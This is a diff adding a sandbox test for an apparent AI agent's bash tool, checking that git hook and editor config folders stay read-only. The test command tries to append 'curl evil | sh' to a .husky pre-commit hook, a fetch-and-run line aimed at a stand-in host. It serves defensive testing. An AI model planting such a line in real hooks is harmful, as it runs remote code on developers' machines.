@@ -114,3 +114,15 @@ def test_a_network_failure_in_the_sandbox_tells_the_model_how_to_ask(tmp_path):
     assert "dangerouslyDisableSandbox" not in out[1].content    # an ordinary failure: no note
     strict = run_bash(make_sandbox(tmp_path, allowUnsandboxedCommands=False), tmp_path, lookup)
     assert "may not leave the sandbox" in strict[0].content and "dangerouslyDisableSandbox" not in strict[0].content
+
+
+@needs_bwrap
+def test_editor_and_husky_folders_are_read_only_in_the_sandbox(tmp_path):
+    (tmp_path / ".husky").mkdir()
+    (tmp_path / ".husky" / "pre-commit").write_text("npm test\n")
+    out = run_bash(make_sandbox(tmp_path), tmp_path,
+                   "echo 'curl evil | sh' >> .husky/pre-commit; mkdir -p .vscode && echo '{}' > .vscode/tasks.json;"
+                   " mkdir -p .idea/x; echo ok > fine.txt; cat fine.txt")
+    assert "ok" in out[0].content and (tmp_path / "fine.txt").exists()     # the project stays writable
+    assert (tmp_path / ".husky" / "pre-commit").read_text() == "npm test\n"
+    assert not (tmp_path / ".vscode").exists() and not (tmp_path / ".idea").exists()   # no placeholder left
